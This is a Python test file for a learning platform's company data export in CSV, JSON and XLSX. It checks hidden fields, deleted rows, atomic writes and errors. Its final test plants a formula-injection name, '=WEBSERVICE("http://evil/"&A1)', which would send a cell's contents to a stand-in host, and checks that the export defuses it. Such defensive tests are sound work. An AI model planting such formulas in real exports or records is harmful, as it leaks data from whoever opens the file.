"""`alxapi.exports.company`: a company's rows as its API clients see them, in CSV, JSON and XLSX, streamed in
chunks; hidden fields and disabled courses absent; deleted rows only on request; a failed export
never leaves a file behind."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import openpyxl
import pytest

from alxapi.access import settings as company_settings
from alxapi.access.settings import FIELDS
from alxapi.exports import company as export
from models.iomad import CompanyCourse
from models.plugin import Reporting

from .support.tui_helpers import CONSOLE_NOW, build_console_site


@pytest.fixture
def outdir(tmp_path):
    path = tmp_path / "exports"  # apart from the SQLite files of the site
    path.mkdir()
    return path


@pytest.fixture
def site(db_url):
    site = build_console_site(db_url)
    with site.db.connection_context():
        yield site


def _date(ts: int) -> str:
    return datetime.fromtimestamp(ts, UTC).strftime("%Y-%m-%d %H:%M:%S") if ts else ""


def expected_rows(companyid: int, fields=FIELDS, include_deleted=False, courses=None) -> list[dict]:
    """The rows computed here from the reporting table, formatted as the Moodle endpoint formats them."""
    if courses is None:
        courses = {cc.courseid for cc in CompanyCourse.select().where(CompanyCourse.companyid == companyid)}
    out = []
    for r in sorted(
        Reporting.select().where(Reporting.companyid == companyid), key=lambda r: (r.userid, r.courseid)
    ):
        if r.courseid not in courses or (r.is_deleted and not include_deleted):
            continue
        full = {
            "userid": r.userid,
            "firstname": r.firstname,
            "lastname": r.lastname,
            "email": r.email,
            "username": r.username,
            "courseid": r.courseid,
            "coursename": r.coursename,
            "timecompleted": _date(r.timecompleted),
            "timecompleted_unix": r.timecompleted,
            "timestarted": _date(r.timestarted),
            "timestarted_unix": r.timestarted,
            "percentage": round(float(r.percentage), 2),
            "status": r.status,
        }
        row = {f: full[f] for f in fields}
        if include_deleted:
            row["deleted"] = int(r.is_deleted)
        out.append(row)
    return out


def as_text(row: dict) -> dict:
    return {k: ("" if v is None else str(v)) for k, v in row.items()}


def test_csv_has_every_visible_row_in_key_order(site, outdir):
    target = outdir / "out.csv"
    count = export.export_company(1, "csv", target, now=CONSOLE_NOW, config=site.config, chunk_rows=7)
    expected = expected_rows(1)
    assert count == len(expected) > 7  # several chunks
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # a file for spreadsheets: UTF-8 with a BOM
    with open(target, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == list(FIELDS)
    assert rows == [as_text(r) for r in expected]
    assert not [p for p in outdir.iterdir() if p.name != "out.csv"]  # no temporary file left


def test_hidden_fields_and_disabled_courses_are_absent(site, outdir):
    courses = sorted({cc.courseid for cc in CompanyCourse.select().where(CompanyCourse.companyid == 1)})
    company_settings.set_values(
        1,
        {
            "field_email": "0",
            "field_timestarted_unix": "0",
            f"course_{courses[0]}": "1",
            **{f"course_{c}": "1" for c in courses[1:2]},
        },
        "t",
        CONSOLE_NOW,
    )
    target = outdir / "out.json"
    count = export.export_company(1, "json", str(target), now=CONSOLE_NOW, config=site.config)
    data = json.loads(target.read_text(encoding="utf-8"))
    fields = [f for f in FIELDS if f not in ("email", "timestarted_unix")]
    expected = expected_rows(1, fields, courses=set(courses[:2]))
    assert count == len(data) == len(expected) > 0
    assert data == expected
    assert all("email" not in row and "timestarted_unix" not in row for row in data)
    assert {row["courseid"] for row in data} <= set(courses[:2])


def test_deleted_rows_only_on_request(site):
    victims = list(
        Reporting.select()
        .where((Reporting.companyid == 2) & (Reporting.is_deleted == 0))
        .order_by(Reporting.id)
        .limit(2)
    )
    Reporting.update(is_deleted=1).where(Reporting.id.in_([v.id for v in victims])).execute()
    out = io.StringIO()
    count = export.export_company(2, "csv", out, now=CONSOLE_NOW, config=site.config)
    assert count == len(expected_rows(2))
    keys = {(int(r["userid"]), int(r["courseid"])) for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert not keys & {(v.userid, v.courseid) for v in victims}
    out = io.BytesIO()  # a binary stream works too
    count = export.export_company(2, "csv", out, now=CONSOLE_NOW, include_deleted=True, config=site.config)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"))))
    assert count == len(rows) == len(expected_rows(2, include_deleted=True))
    assert rows == [as_text(r) for r in expected_rows(2, include_deleted=True)]
    assert sum(r["deleted"] == "1" for r in rows) == 2


def test_xlsx_opens_with_openpyxl(site, outdir):
    company_settings.set_values(1, {"field_username": "0"}, "t", CONSOLE_NOW)
    target = outdir / "company.xlsx"
    count = export.export_company(1, "xlsx", target, now=CONSOLE_NOW, config=site.config, chunk_rows=10)
    workbook = openpyxl.load_workbook(target, read_only=True)
    sheet = workbook.active
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    fields = [f for f in FIELDS if f != "username"]
    expected = expected_rows(1, fields)
    assert values[0] == fields
    assert count == len(values) - 1 == len(expected)
    assert [
        dict(zip(fields, (("" if v is None else v) for v in row), strict=True)) for row in values[1:]
    ] == expected
    workbook.close()


def test_json_empty_is_a_valid_list(site, outdir):
    courses = {cc.courseid for cc in CompanyCourse.select().where(CompanyCourse.companyid == 3)}
    company_settings.set_values(
        3, {f"course_{c}": "0" for c in courses}, "t", CONSOLE_NOW
    )  # every course off
    target = outdir / "empty.json"
    assert export.export_company(3, "json", target, now=CONSOLE_NOW, config=site.config) == 0
    assert json.loads(target.read_text()) == []


def test_a_failed_export_leaves_no_file_and_keeps_the_old_one(site, outdir):
    target = outdir / "out.csv"
    target.write_text("previous export\n")

    def boom(rows: int) -> None:
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        export.export_company(
            1, "csv", target, now=CONSOLE_NOW, config=site.config, chunk_rows=5, progress=boom
        )
    assert target.read_text() == "previous export\n"
    assert sorted(p.name for p in outdir.iterdir()) == ["out.csv"]


def test_errors_are_clear(site, outdir):
    with pytest.raises(export.ExportError, match="no company with id 4242"):
        export.export_company(4242, "csv", outdir / "x.csv", now=CONSOLE_NOW)
    with pytest.raises(export.ExportError, match="unknown export format 'pdf'"):
        export.export_company(1, "pdf", outdir / "x.pdf", now=CONSOLE_NOW)
    with pytest.raises(export.ExportError, match="does not exist"):
        export.export_company(1, "csv", outdir / "missing" / "x.csv", now=CONSOLE_NOW)
    with pytest.raises(export.ExportError, match="is a directory"):
        export.export_company(1, "csv", outdir, now=CONSOLE_NOW)
    assert list(outdir.iterdir()) == []


def test_progress_and_browse_pages(site):
    seen = []
    export.export_company(
        1, "json", io.StringIO(), now=CONSOLE_NOW, config=site.config, chunk_rows=10, progress=seen.append
    )
    total = len(expected_rows(1))
    assert seen == [min(n, total) for n in range(10, total + 10, 10)]
    # Keyset pages cover every row once.
    keys, after = [], None
    while True:
        page = export.browse_page(1, after=after, limit=8, config=site.config)
        assert page.total == total and page.columns == list(FIELDS)
        keys += page.keys
        if not page.has_more:
            break
        after = page.last_key
    assert keys == [(r["userid"], r["courseid"]) for r in expected_rows(1)]


def test_default_filename_uses_the_local_date():
    assert export.default_filename(3, "xlsx", CONSOLE_NOW, "UTC") == "alx-company-3-20260302.xlsx"
    assert (
        export.default_filename(3, "csv", CONSOLE_NOW - 11 * 3600, "Pacific/Auckland")
        == "alx-company-3-20260302.csv"
    )


def test_hostile_names_are_inert_in_csv_and_xlsx(site, outdir):
    """A learner named like a formula, or with a control character, neither plants a live formula nor
    aborts the export (SPEC §8.7)."""
    row = Reporting.select().where(Reporting.companyid == 1, Reporting.is_deleted == 0).first()
    Reporting.update(
        firstname='=WEBSERVICE("http://evil/"&A1)', lastname="Bell\x01", username="@SUM(1)"
    ).where(Reporting.id == row.id).execute()

    export.export_company(1, "csv", outdir / "c.csv", now=CONSOLE_NOW, config=site.config)
    with open(outdir / "c.csv", encoding="utf-8-sig", newline="") as f:
        mine = [
            r
            for r in csv.DictReader(f)
            if int(r["userid"]) == row.userid and int(r["courseid"]) == row.courseid
        ]
    assert mine[0]["firstname"] == "'" + '=WEBSERVICE("http://evil/"&A1)'
    assert mine[0]["username"] == "'@SUM(1)"

    export.export_company(1, "xlsx", outdir / "c.xlsx", now=CONSOLE_NOW, config=site.config)
    workbook = openpyxl.load_workbook(outdir / "c.xlsx")
    cells = [c for r in workbook.active.iter_rows() for c in r]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {c.value for c in cells}
    assert '=WEBSERVICE("http://evil/"&A1)' in names and "Bell" in names and "@SUM(1)" in names
